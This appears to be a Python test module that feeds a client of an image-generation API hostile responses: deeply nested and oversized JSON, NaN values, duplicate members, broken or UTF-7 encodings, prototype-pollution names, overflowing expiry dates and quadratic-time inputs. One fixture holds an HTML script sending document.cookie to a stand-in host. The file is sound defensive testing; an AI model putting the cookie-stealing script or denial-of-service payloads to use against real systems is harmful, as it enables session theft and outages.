"""JSON and text that break the reader, or mean something else to each reader."""

from __future__ import annotations

import json

from tests.attacks.model import BASE64_CASE, Request, attack, attack_rows, items, ok, refusal, urls
from tests.hostile import honest_answer

attack_rows({
    "deep-arrays": ("A hundred thousand arrays, one in the other, run through the stack.",
        lambda _: ok(b"[" * 100_000), "fail", "envelope.json-depth"),
    "deep-objects": ("Objects, one in the other, end a recursive reader.",
        lambda _: ok(b'{"data":' * 100_000 + b"1" + b"}" * 100_000), "fail", "envelope.json-depth"),
    "deep-data": ("`data` nests where items are looked for.",
        lambda _: ok(b'{"created":1,"data":' + b"[" * 5000 + b"]" * 5000 + b"}"),
        "fail", "envelope.json-depth"),
    "million-digits": ("A number of a million digits takes the square of its length to read.",
        lambda _: ok(b'{"created":' + b"9" * 1_000_000 + b',"data":[]}'),
        "deviates", "envelope.json-number-range"),
    "exponent-of-a-million": (
        "A short number that is longer than the memory when it is written out.",
        lambda _: ok(b'{"created":1e999999,"data":[]}'), "deviates", "envelope.json-number-range"),
    "not-a-number": ("NaN is equal to nothing, and so passes every check of a range.",
        lambda _: ok(b'{"created":NaN,"data":[{"url":-Infinity}]}'),
        "fail", "envelope.json-no-nan"),
    "twice-the-same-member": ("Of two members one is judged and the other is used.",
        lambda _: ok(b'{"created":1,"data":[],"data":[{"url":"http://a.test/"}]}'),
        "deviates", "envelope.json-unique-names"),
    "long-name-beside-many-values": (
        "A name of half a megabyte, written before each of 90,000 values, takes all the memory.",
        lambda _: ok(b'{"a":{"x":1,"x":2},"' + b"k" * 500_000 + b'":[' + b"0," * 90_000 + b"0]}"),
        "deviates", "envelope.json-unique-names"),
    "very-many-members": ("Two hundred thousand members of one object fill a table of hashes.",
        lambda _: ok(b"{" + b",".join(b'"%x":0' % number for number in range(100_001)) + b"}"),
        "fail", "envelope.json-depth"),
    "very-many-undocumented-members": (
        "Twenty thousand members that no source knows would each be told.",
        lambda _: ok({f"member-{number}\u202e": 0 for number in range(20_000)}), "fail"),
})  # fmt: skip


@attack("fail", "envelope.json-utf8")
def broken_utf_8(request: Request) -> bytes:
    """Bytes that are no UTF-8 end a reader that believes the content type."""
    return ok(b'{"created":1,"data":[{"revised_prompt":"caf\xe9 \xc0\xaf \xf5\x80\x80\x80"}]}')


attack_rows({
    "lone-surrogates": ("Half a character can be read, and then not be written to any file.",
        lambda _: ok(b'{"created":1,"data":[{"url":"\\ud800","revised_prompt":"\\udfff"}]}'),
        "fail", "envelope.json-utf8"),
    "utf-16": ("JSON in UTF-16 passes some readers and hides from every search for bytes.",
        lambda _: ok('{"created":1,"data":[]}'.encode("utf-16")), "fail", "envelope.json-utf8"),
})  # fmt: skip


@attack("fail", "envelope.json-utf8")
def utf_7_and_a_mark(request: Request) -> bytes:
    """A byte order mark, and a charset in which `<` is written with letters alone."""
    body = b'\xef\xbb\xbf{"created":1,"data":[{"revised_prompt":"+ADw-script+AD4-"}]}'
    return honest_answer(body, "Content-Type: application/json; charset=utf-7")


attack_rows({
    "nul-bytes": ("NUL bytes end a text for some and not for others.",
        lambda _: ok(b'{"created":1,\x00"data":[]}\x00\x00'), "fail", "envelope.json-syntax"),
    "comments-and-commas": (
        "What only lenient readers take: a comment, a trailing comma, single quotes.",
        lambda _: ok(b"{'created':1,/* */\"data\":[],}"), "fail", "envelope.json-syntax"),
    "proto-members": (
        "Names that mean something to languages: of prototypes, of classes, of nothing.",
        lambda _: ok(b'{"__proto__":{"x":1},"constructor":null,"__class__":"os","":{},"data":[]}'),
        "fail"),
})  # fmt: skip


@attack("fail")
def wrong_types_everywhere(request: Request) -> bytes:
    """Every member has a type that nobody expects there."""
    item = {"url": {"a": []}, "b64_json": 7, "revised_prompt": [None]}
    body = {"created": [], "data": [item, 5, None, [], "x"], "usage": "x", "size": 1, "error": 0}
    return ok(body)


attack_rows({
    "error-of-wrong-types": ("The code of an error is a list of lists: no set can be asked for it.",
        lambda _: refusal([], type={"a": 1}, param=[[]], code=[[], {}]),
        "fail", "parameters.valid-accepted"),
    "time-beyond-all-calendars": ("A time that no calendar has ends what turns it into a date.",
        lambda _: ok(items({"url": "http://a.test/?se=99999-99-99"}, created=10**300)), "fail"),
})  # fmt: skip


@attack("fail")
def dates_that_never_were(request: Request) -> bytes:
    """Expiry dates that overflow, in every way that signed URLs write them."""
    queries = (
        "se=9999-12-31T23:59:59-23:59",
        "X-Amz-Date=00010101T000000Z&X-Amz-Expires=" + "9" * 300,
        "Expires=" + "9" * 400,
        "Expires=-1e999",
        "se=0001-01-01T00:00:00%2B23:59",
        "e=NaN",
    )
    return urls(*(f"http://a.test/i.png?{query}" for query in queries))


@attack("fail")
def numbers_as_text(request: Request) -> bytes:
    """Numbers in other digits, and of other bases."""
    return ok(items({"url": "http://a.test:١٢/"}, created="1_7", usage={"total_tokens": "٣"}))


@attack("fail")
def million_backslashes(request: Request) -> bytes:
    """A search for an escaped key takes the square of a run of backslashes."""
    return ok(b'{"created":1,"data":[{"revised_prompt":"' + b"\\" * 900_000 + b'"}]}')


@attack("fail")
def million_percents(request: Request) -> bytes:
    """A search for an encoded key takes the square of a run of escapes."""
    return ok(b'{"created":1,"data":[],"x":"' + b"%25" * 150_000 + b"&amp;" * 100_000 + b'"}')


attack_rows({
    "megabyte-of-quotes": ("Quotes and brackets in long runs upset what searches for strings.",
        lambda _: ok(b'"' * 300_000 + b"[{" * 100_000 + b'\\"' * 100_000), "fail"),
    "megabyte-of-almost-base64": (
        "Base64 that is wrong in its last character only is read to its end.",
        lambda _: ok(items({"b64_json": "QUJD" * 200_000 + "QU%D"})),
        "fail", "base64.alphabet", BASE64_CASE),
})  # fmt: skip


@attack("fail", "parameters.valid-accepted")
def error_page(request: Request) -> bytes:
    """A page of HTML in place of an error, with a script."""
    page = b"<!DOCTYPE html><script>fetch('http://evil.test/'+document.cookie)</script>"
    return honest_answer(page, "Content-Type: text/html", status="400 Bad Request")


@attack("fail")
def megabyte_message(request: Request) -> bytes:
    """A message of almost a megabyte drowns every report."""
    return refusal("A" * 900_000 + json.dumps({"x": "\x1b"}))
